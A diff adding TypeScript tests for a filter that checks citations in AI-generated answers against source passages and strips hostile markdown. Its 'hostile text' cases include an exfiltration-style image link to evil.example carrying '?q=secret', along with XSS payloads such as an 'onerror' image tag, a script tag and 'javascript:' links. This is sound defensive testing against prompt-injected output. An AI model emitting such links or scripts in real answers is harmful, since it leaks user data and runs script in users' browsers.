@@ -1,0 +1,254 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { AnswerFilter, filtered } from './citations';
+
+const SOURCES = [
+  { no: 1, text: 'The budget is 5 million yen. Mei presents it on\nFriday, “after lunch”.' },
+  { no: 2, text: '予算は五百万円です。金曜日に発表します。' },
+  { no: 3, text: 'Ｆｕｌｌ　ｗｉｄｔｈ words—and a dash.' },
+];
+const textOf = (answer: string): string => filtered(answer, SOURCES).text;
+const quotesOf = (answer: string): string[] => filtered(answer, SOURCES).citations.map(({ quote }) => quote);
+
+describe('a citation', () => {
+  it.each([
+    [
+      'The budget is 5 million. [[1: "budget is 5 million yen"]]',
+      'The budget is 5 million.[^1]',
+      'budget is 5 million yen',
+    ],
+    [
+      'The budget is 5 million [[1: "budget is 5 million yen"]].',
+      'The budget is 5 million[^1].',
+      'budget is 5 million yen',
+    ],
+    [
+      'Mei presents it [[1: “presents it on Friday, "after lunch"”]].',
+      'Mei presents it[^1].',
+      'presents it on\nFriday, “after lunch”',
+    ],
+    ['予算は五百万円です。[[2: 「予算は五百万円です」]]', '予算は五百万円です。[^1]', '予算は五百万円です'],
+    [
+      'Full width is found. [[3: "Full width words-and a dash"]]',
+      'Full width is found.[^1]',
+      'Ｆｕｌｌ　ｗｉｄｔｈ words—and a dash',
+    ],
+    ['The budget is 5 million yen. [[1]]', 'The budget is 5 million yen.[^1]', 'The budget is 5 million yen.'],
+  ])('of %j is kept', (answer, text, quote) => {
+    expect([textOf(answer), quotesOf(answer)]).toEqual([text, [quote]]);
+  });
+
+  it.each([
+    ['words that its passage does not have', 'The budget is 9 million. [[1: "budget is 9 million yen"]]'],
+    ['a passage that was not given', 'The budget is 5 million. [[7: "budget is 5 million yen"]]'],
+    ['words too short to mean one place', 'The budget is 5 million. [[1: "is"]]'],
+    ['a passage that says something else', 'The moon has craters everywhere. [[1]]'],
+    ['an end that never came', 'The budget is 5 million. [[1: "budget is 5'],
+  ])('of %s is dropped, and the sentence is marked', (_what, answer) => {
+    expect(textOf(answer)).toMatch(/^[^[]+\.\[\^\?\]$/);
+    expect(quotesOf(answer)).toEqual([]);
+  });
+
+  it('of the same words has one number', () => {
+    const answer = 'It is 5 million yen. [[1: "5 million yen"]] Yes, 5 million yen it is. [[1: "5 million yen"]]';
+    expect(textOf(answer)).toBe('It is 5 million yen.[^1] Yes, 5 million yen it is.[^1]');
+  });
+});
+
+describe('a sentence without a citation', () => {
+  it.each([
+    ['The project is late. It costs more.', 'The project is late.[^?] It costs more.[^?]'],
+    [
+      'The project is late. [[1: "budget is 5 million yen"]] It costs more.',
+      'The project is late.[^1] It costs more.[^?]',
+    ],
+    ['It costs 3.5 million yen, e.g. for Dr. Sato.', 'It costs 3.5 million yen, e.g. for Dr. Sato.[^?]'],
+    ['プロジェクトは遅れています。費用も増えます。', 'プロジェクトは遅れています。[^?]費用も増えます。[^?]'],
+    ['- The project is late\n- It costs much more', '- The project is late[^?]\n- It costs much more[^?]'],
+  ])('is marked in %j', (answer, text) => expect(textOf(answer)).toBe(text));
+
+  it.each([
+    '# The state of the whole project',
+    'Hello there, my friend!',
+    'Would you like to know more about it?',
+    'I found nothing about it in your sources.',
+    'ソースには記載がありません。',
+    '来源中没有找到相关信息。',
+    'The reasons are these ones:',
+    '```\nlet x = 1. This stands in code.\n```',
+    '| name | value of it |\n|---|---|\n| a b c | d e f |',
+  ])('is not marked in %j', (answer) => expect(textOf(answer)).toBe(answer));
+});
+
+describe('hostile text', () => {
+  it.each([
+    ['![alt](https://evil.example/x.png?q=secret)', /^\[alt\]\(https:/],
+    ['Look!!![alt](https://evil.example/x.png)', /^Look\\!\[alt\]/],
+    ['Great! [[1: "budget is 5 million yen"]](https://evil.example/x.png)', /^Great!\[\^1\]\\\(https/],
+    ['[[1: "budget is 5 million yen"]]: a footnote', /^\[\^1\]\\: a/],
+    ['予算は五百万円です。(https://evil.example)', /です。\[\^\?\]\\\(https/],
+    ['Look!![[1]](https://evil.example/x.png)', /^(?!.*(?<!\\)!\[)/s],
+    ['<img src=x onerror=alert(1)>', /^\\<img/],
+    ['</div><script>alert(1)</script>', /^\\<\/div>\\<script>alert\(1\)\\<\/script>/],
+    ['[click](javascript:alert(1))', /^\[click\\\]\(javascript/],
+    ['[click]( data:text/html,x)', /^\[click\\\]\( data/],
+    ['[click](&#106;avascript:alert(1))', /^\[click\\\]\(/],
+    ['[x]: javascript:alert(1)', /^\\\[x\]:/],
+    ['Trust me [^1] and [^?].', /^Trust me \\\[\^1\] and \\\[\^\?\]\./],
+    ['a\u202eb\u0000c\u200bd', /^abcd$/],
+    ['<[[9]]img src=x>', /^\\< ?img/],
+    ['[a][[9]](javascript:alert(1))', /^\[a\] \(/],
+    ['``[[9]]`![a](https://evil.example)`', /^\\`\\` `!\[a\]\(https:\/\/evil.example\)`/],
+    ['[[9]]```\nx\n```\n![a](https://evil.example)\n```', /^\\`\\`\\`/],
+    ['- ~~~\n  x\n  ~~~\n  ![a](https://evil.example)\n  ~~~', /^- \\~\\~\\~\[\^\?\]?|^- \\~/],
+    ['| `a | ![x](https://evil.example) ` |', /\| \[x\]\(https/],
+    ['- ```\n  ![x](https://evil.example)', /\n {2}\[x\]\(https/],
+    ['````\n```\n````\n![x](https://evil.example)', /\n\[x\]\(https/],
+    ['``` `x`\n![x](https://evil.example)', /\n\[x\]\(https/],
+  ])('%j is made plain', (answer, expected) => expect(textOf(answer)).toMatch(expected));
+
+  it('keeps links of the web and of mail, and code', () => {
+    for (const text of ['[a](https://a.example/b)', '[a](mailto:a@b.example)', '`List<String>`', '```html\n<b>\n```'])
+      expect(textOf(text).replace('[^?]', '')).toBe(text);
+  });
+
+  it('is cut at the longest answer', () => {
+    const filter = new AnswerFilter(SOURCES, 10);
+    expect(filter.push('0123456789') + filter.push('abc') + filter.end()).toBe('0123456789');
+    expect(filter.isFull).toBe(true);
+  });
+});
+
+/** Text of tokens that mean something to the filter. */
+const tokens = fc
+  .array(
+    fc.oneof(
+      {
+        weight: 3,
+        arbitrary: fc.constantFrom(
+          '[[',
+          ']]',
+          '[[1: "',
+          '"]]',
+          '[[2]]',
+          '[[1, 2]]',
+          '[',
+          ']',
+          '](',
+          '!',
+          '![',
+          '<',
+          '\\',
+        ),
+      },
+      {
+        weight: 3,
+        arbitrary: fc.constantFrom(
+          '. ',
+          '。',
+          '? ',
+          '!',
+          '…',
+          '\n',
+          '\n\n',
+          ' ',
+          '  ',
+          '- ',
+          '1. ',
+          '> ',
+          '# ',
+          '| ',
+          '`',
+          '```',
+          '```\n',
+          '~~~',
+          '[^1]',
+          '[a]:',
+        ),
+      },
+      {
+        weight: 3,
+        arbitrary: fc.constantFrom(
+          'The budget ',
+          'is 5 million yen',
+          'budget is 5 million yen',
+          '予算は',
+          '五百万円です',
+          'https://',
+          'javascript:',
+          'e.g',
+          'No',
+          '🦊',
+          '\ud83e',
+          '\u0000',
+          '\r\n',
+        ),
+      },
+      { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
+    ),
+    { maxLength: 40 },
+  )
+  .map((parts) => parts.join(''));
+
+describe('any text', () => {
+  it('is the same for any cut of the stream into pieces', () => {
+    fc.assert(
+      fc.property(tokens, fc.array(fc.nat(12), { maxLength: 60 }), (text, lengths) => {
+        const filter = new AnswerFilter(SOURCES);
+        let out = '';
+        let at = 0;
+        for (const length of lengths) {
+          out += filter.push(text.slice(at, at + length));
+          at += length;
+        }
+        out += filter.push(text.slice(at)) + filter.end();
+        const whole = filtered(text, SOURCES);
+        expect(out).toBe(whole.text);
+        expect(filter.citations).toEqual(whole.citations);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('has markers of citations only, whose quotes stand in their sources', () => {
+    fc.assert(
+      fc.property(tokens, (text) => {
+        const answer = filtered(text, SOURCES);
+        for (const { source, quote } of answer.citations)
+          expect(SOURCES.find(({ no }) => no === source)!.text).toContain(quote);
+        const numbers = [...withoutCode(answer.text).matchAll(/(?<!\\)\[\^(\d+)\]/g)].map(([, n]) => Number(n));
+        for (const n of numbers) expect(answer.citations.some((each) => each.n === n)).toBe(true);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('has neither images nor tags', () => {
+    fc.assert(
+      fc.property(tokens, (text) => {
+        const plain = withoutCode(filtered(text, SOURCES).text);
+        expect(plain).not.toMatch(/(?<!\\)(?:\\\\)*!\[(?!\^)/);
+        expect(plain).not.toMatch(/(?<!\\)(?:\\\\)*\[\^(?:\d+|\?)\][([:](?!\^)/);
+        expect(plain).not.toMatch(/(?<!\\)<[A-Za-z/!?]/);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
+
+/** Without fenced code and code spans. */
+function withoutCode(text: string): string {
+  const lines: string[] = [];
+  let fence = '';
+  for (const line of text.split('\n')) {
+    const mark = /^(`{3,}|~{3,})(.*)$/.exec(line);
+    if (fence) {
+      if (mark && mark[1]![0] === fence[0] && mark[1]!.length >= fence.length && mark[2]!.trim() === '') fence = '';
+    } else if (mark && !(mark[1]!.startsWith('`') && mark[2]!.includes('`'))) fence = mark[1]!;
+    else
+      lines.push(
+        line.replace(/\\.|(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/gs, (found) => (found.startsWith('\\') ? found : '')),
+      );
+  }
+  return lines.join('\n');
+}
